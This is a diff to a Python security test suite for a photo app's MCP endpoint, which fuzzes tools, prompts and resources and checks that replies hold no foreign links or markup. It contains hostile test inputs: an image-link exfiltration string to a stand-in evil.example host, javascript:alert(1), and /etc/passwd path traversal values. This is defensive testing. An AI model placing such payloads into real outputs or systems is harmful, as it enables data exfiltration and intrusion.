@@ -5,12 +5,13 @@ Lines are made from the tools, resources and prompts that the app lists, so that
 """
 
 import json
-import re
-from collections.abc import Iterator, Mapping
+from collections.abc import Iterable, Iterator, Mapping
 from typing import Any
 
 from tests.attacks.attack import Attack, Check, NotApplicable
-from tests.attacks.library import NAMES, SCRIPT
+from tests.attacks.hostile_words import FOREIGN, LINES, LISTS, hostile, hostile_photo, string_fields
+from tests.attacks.inert_replies import check_inert, told_places
+from tests.attacks.library import SCRIPT
 from tests.attacks.reply import Reply
 from tests.attacks.target import JSON, Target
 from web.mcp.all_tools import MCP_TOOLS
@@ -19,8 +20,7 @@ from web.mcp.prompts import PROMPTS
 VERSION = "2025-11-25"
 HEADERS = JSON | {"Accept": "application/json, text/event-stream", "MCP-Protocol-Version": VERSION}
 ANSWERED = (200, 202, 400, 401, 403, 404, 413)
-FOREIGN = "https://evil.example/?q="
-LINK = f"![x]({FOREIGN}secret) <img src={FOREIGN}> [y](javascript:alert(1)) www.evil.example"
+LINK = hostile("x")
 # Of any type, in the place of each argument.
 VALUES: tuple[Any, ...] = (
     None, True, -1, 10**400, 1.5, "", " ", "\0", "\ud800", "../../etc/passwd", "..%2f..%2f", "file:///etc/passwd",
@@ -41,9 +41,13 @@ METHODS = (
 NOTICES = (
     "initialized", "cancelled", "progress", "roots/list_changed", "message", "tools/list_changed", "x", "../tools/call",
 )  # fmt: skip
-# What a client could follow or show, as it is where nothing has broken it up: `https:// evil.example` is only words.
-MARKUP = re.compile(r"\]\(|<(?:img|script)\b|www\.\w", re.IGNORECASE)
-URL = re.compile(r"\b(?:https?|ftp|file)://[^\s\"'<>)\]]+", re.IGNORECASE)
+COUNTED = ("tags", "keywords", "creators", "city", "country")
+KNOWN = frozenset({"folder", "path", "file", "fields", *LINES, *LISTS}) - {"alt_text"}
+# The places of which a tool tells whatever else there is: without them its answer would prove nothing.
+TELLS = {
+    "search_photos": KNOWN, "view_photo": KNOWN, "fetch": KNOWN, "count_photos": frozenset({"folder", *COUNTED}),
+    "propose_edit": frozenset({"folder", "path", "title", "tags"}),
+}  # fmt: skip
 
 
 def attacks() -> Iterator[Attack]:
@@ -62,48 +66,19 @@ def attacks() -> Iterator[Attack]:
     yield Attack("agent", "pages without end", _pages)
 
 
-def _send(target: Target, method: str, params: Mapping[str, Any], status: tuple[int, ...] = ANSWERED) -> Reply:
+def send_message(target: Target, method: str, params: Mapping[str, Any], status: Iterable[int] = ANSWERED) -> Reply:
     message = {"jsonrpc": "2.0", "id": 1, "method": method, "params": params}
     return target.send("POST", "/mcp", HEADERS, json.dumps(message).encode(), status=status)
 
 
-def _call(target: Target, name: str, arguments: Mapping[str, Any]) -> Reply:
-    return _send(target, "tools/call", {"name": name, "arguments": arguments})
+def call_tool(target: Target, name: str, arguments: Mapping[str, Any]) -> Reply:
+    return send_message(target, "tools/call", {"name": name, "arguments": arguments})
 
 
 def _photos(target: Target) -> list[Any]:
     """What nothing of this may change: the records of our photos."""
-    return [target.send("GET", f"/api/photos/{id_}").json() for id_ in target.photos.values()]
-
-
-def _inert(target: Target, reply: Reply) -> None:
-    """Nothing in it is a link or an element, but for addresses of photos and proposals on the app's own page."""
-    for text in _texts(json.loads(reply.body)):
-        if text.startswith("data:image/jpeg;base64,") or text.startswith(("photos://", "ui://", "<!doctype html>")):
-            continue
-        foreign = [
-            each for each in URL.findall(text) if not each.startswith((f"{target.url}/?photo=", f"{target.url}/?view="))
-        ]
-        assert not foreign, f"it tells the address {foreign[0][:200]!r}"
-        markup = MARKUP.search(text)
-        assert not markup, f"it tells {text[max(markup.start() - 40, 0) : markup.end() + 40]!r}"
-
-
-def _texts(value: Any) -> Iterator[str]:
-    """Every text in JSON, also in JSON that is a text of it."""
-    if isinstance(value, str):
-        try:
-            inner = json.loads(value)
-        except (ValueError, RecursionError):
-            inner = None
-        yield from _texts(inner) if isinstance(inner, dict | list) else (value,)
-    elif isinstance(value, list):
-        for each in value:
-            yield from _texts(each)
-    elif isinstance(value, dict):
-        for name, each in value.items():
-            yield name
-            yield from _texts(each)
+    ids = [*target.photos.values(), *target.hostile.values()]
+    return [target.send("GET", f"/api/photos/{id_}").json() for id_ in ids]
 
 
 def _wrong_values(name: str) -> Check:
@@ -115,15 +90,15 @@ def _wrong_values(name: str) -> Check:
             for value in VALUES[number % step :: step]:
                 if name == "ask_photos" and argument == "question" and isinstance(value, str) and value.strip():
                     continue  # a question is answered, whatever it says: the chat has attacks of its own
-                reply = _call(target, name, {argument: value})
+                reply = call_tool(target, name, {argument: value})
                 if reply.status == 200:
-                    _inert(target, reply)
+                    check_inert(target, reply)
         assert _photos(target) == before, f"{name} has changed photos"
 
     return check
 
 
-def _arguments(name: str, ids: list[str]) -> dict[str, Any]:
+def usual_arguments(name: str, ids: list[str]) -> dict[str, Any]:
     """Arguments by which a tool tells of photos."""
     fields = MCP_TOOLS[name].arguments.model_fields
     usual = {
@@ -138,14 +113,20 @@ def _no_link(name: str) -> Check:
     def check(target: Target) -> None:
         if not target.photos:
             raise NotApplicable("there are no photos")
-        before = _photos(target)
-        arguments = _arguments(name, list(target.photos.values()))
-        for more in ({}, {"folder": target.folder}):
+        ids = [hostile_photo(target), *target.photos.values()]
+        before, told, answered = _photos(target), set[str](), False
+        own = [f"field.{each}" for each in string_fields(target)]
+        groups = [{"folder": target.folder, "by": each} for each in (*COUNTED, *own)]
+        for more in ({}, {"id": ids[1]}, {"folder": target.folder}, *groups):
             if more.keys() <= MCP_TOOLS[name].arguments.model_fields.keys():
-                reply = _call(target, name, arguments | more)
+                reply = call_tool(target, name, usual_arguments(name, ids) | more)
                 assert reply.status in {200, 401, 403}, str(reply)
                 if reply.status == 200:
-                    _inert(target, reply)
+                    check_inert(target, reply)
+                    told |= told_places(reply)
+                    answered |= not reply.json()["result"].get("isError")
+        missing = (TELLS.get(name, frozenset()) & target.hostile_places) - told
+        assert not (answered and missing), f"{name} tells nothing of what is hostile in {sorted(missing)}"
         assert _photos(target) == before, f"{name} has changed photos"
 
     return check
@@ -155,31 +136,40 @@ def _prompt(name: str) -> Check:
     def check(target: Target) -> None:
         for value in VALUES:
             for params in ({"name": name, "arguments": {PROMPTS[name].argument: value}}, {"name": value}):
-                _send(target, "prompts/get", params)
+                send_message(target, "prompts/get", params)
             reference = {"type": "ref/prompt", "name": name}
-            _send(target, "completion/complete", {"ref": reference, "argument": {"name": "folder", "value": value}})
+            send_message(
+                target, "completion/complete", {"ref": reference, "argument": {"name": "folder", "value": value}}
+            )
 
     return check
 
 
 def _uris(target: Target) -> None:
     for uri in URIS:
-        reply = _send(target, "resources/read", {"uri": uri})
+        reply = send_message(target, "resources/read", {"uri": uri})
         assert b'"contents"' not in reply.body, f"{uri[:80]!r} was answered with {reply}"
         if reply.status == 200:
-            _inert(target, reply)
+            check_inert(target, reply)
 
 
 def _resource(target: Target) -> None:
-    for name in NAMES:
-        if name in target.photos:
-            _inert(target, _send(target, "resources/read", {"uri": f"photos://photo/{target.photos[name]}"}))
-    _inert(target, _send(target, "resources/list", {}))
+    if not target.photos:
+        raise NotApplicable("there are no photos")
+    ids, told = [hostile_photo(target), *target.photos.values()], set[str]()
+    uris = [f"photos://photo/{each}" for each in ids] + [f"photos://collection/{each}" for each in target.collections]
+    for uri in uris:
+        reply = send_message(target, "resources/read", {"uri": uri}, status=[200])
+        check_inert(target, reply)
+        told |= told_places(reply)
+    check_inert(target, send_message(target, "resources/list", {}))
+    missing = ((KNOWN | {"collection", "description"}) & target.hostile_places) - told
+    assert not missing, f"resources tell nothing of what is hostile in {sorted(missing)}"
 
 
 def _methods(target: Target) -> None:
     for method in METHODS:
-        reply = _send(target, method, {"name": "propose_edit", "arguments": {}})
+        reply = send_message(target, method, {"name": "propose_edit", "arguments": {}})
         assert b'"result"' not in reply.body, f"{method[:80]} was answered with {reply}"
 
 
@@ -226,8 +216,8 @@ def _deep(target: Target) -> None:
 
 def _pages(target: Target) -> None:
     for top, skip in ((10**9, 0), (30, 10**9), (-1, -1), (30, 10_000), (0, 0)):
-        reply = _call(target, "search_photos", {"top": top, "skip": skip})
+        reply = call_tool(target, "search_photos", {"top": top, "skip": skip})
         assert len(reply.body) < 1_000_000, f"a page of {len(reply.body):,} bytes"
     for method in ("tools/list", "resources/list", "prompts/list", "resources/templates/list"):
         for cursor in ("x", "-1", "../..", "x" * 50_000):
-            assert len(_send(target, method, {"cursor": cursor}).body) < 1_000_000
+            assert len(send_message(target, method, {"cursor": cursor}).body) < 1_000_000
